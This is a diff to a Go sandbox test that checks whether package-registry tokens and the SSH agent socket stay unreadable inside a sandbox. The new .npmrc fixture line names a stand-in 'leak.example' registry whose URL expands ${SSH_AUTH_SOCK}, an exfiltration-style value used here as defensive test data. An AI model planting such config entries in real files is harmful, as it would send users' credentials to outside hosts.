@@ -153,7 +153,10 @@ func TestToolchainGeneratedSettingsInside(t *testing.T) {
 		".corp-ca.pem": "-----BEGIN CERTIFICATE-----\nTUlJQnN6Q0NBVm1nQXdJQkFnSVU=\n-----END CERTIFICATE-----\n",
 		".npmrc": "registry=https://npm.corp.example/\n//npm.corp.example/:_authToken=" + token + "\n" +
 			"@corp:registry=https://npm.corp.example/corp/\n//npm.corp.example/corp/:_password=" + token + "\n" +
-			"cafile=" + ca + "\n_auth=" + token + "\n",
+			"cafile=" + ca + "\n_auth=" + token + "\n" +
+			// The sandbox does not get SSH_AUTH_SOCK: a value naming it
+			// is left out, never filled in from the launcher's.
+			"@leak:registry=https://leak.example/${SSH_AUTH_SOCK}/\n",
 		".cargo/config.toml": "[source.crates-io]\nreplace-with = \"corp\"\n\n[source.corp]\nregistry = \"sparse+https://crates.corp.example/index/\"\n\n" +
 			"[registries.corp]\nindex = \"sparse+https://crates.corp.example/index/\"\ntoken = \"" + token + "\"\n\n[registry]\ntoken = \"" + token + "\"\n",
 		".cargo/credentials.toml": "[registries.corp]\ntoken = \"" + token + "\"\n",
@@ -169,13 +172,13 @@ func TestToolchainGeneratedSettingsInside(t *testing.T) {
 		writeUserFile(t, s, p, content, 0o600)
 	}
 	os.Chmod(ca, 0o644)
-	s.Env = append(s.Env, "PATH="+filepath.Join(s.Home, ".local/bin")+":/usr/bin:/bin")
+	s.Env = append(s.Env, "PATH="+filepath.Join(s.Home, ".local/bin")+":/usr/bin:/bin", "SSH_AUTH_SOCK=/tmp/"+token)
 	r := s.Shell(t, `echo "userconfig=$npm_config_userconfig"; cat "$npm_config_userconfig" /.cargo/config.toml; head -1 `+ca+`
 grep -rIl -e "`+token+`" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev --exclude-dir=usr --exclude-dir=lib --exclude-dir=lib64 --exclude-dir=bin --exclude-dir=sbin --exclude-dir=etc 2>/dev/null
 echo grep-done
 echo x >> "$npm_config_userconfig" || echo npmrc-read-only
 echo x >> /.cargo/config.toml || echo cargo-read-only`)
-	if strings.Contains(r.Stdout+r.Stderr, token) {
+	if strings.Contains(r.Stdout+r.Stderr, token) || strings.Contains(r.Stdout, "@leak") {
 		t.Errorf("a token is readable inside:\n%v", r)
 	}
 	for _, want := range []string{
